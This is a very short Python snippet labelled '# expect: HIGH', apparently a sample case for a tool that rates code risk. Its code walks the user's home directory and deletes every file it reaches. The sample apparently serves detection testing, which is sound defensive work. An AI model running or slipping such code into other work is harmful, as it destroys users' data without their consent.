# expect: HIGH
from pathlib import Path
for p in Path.home().rglob("*"):
    p.unlink()
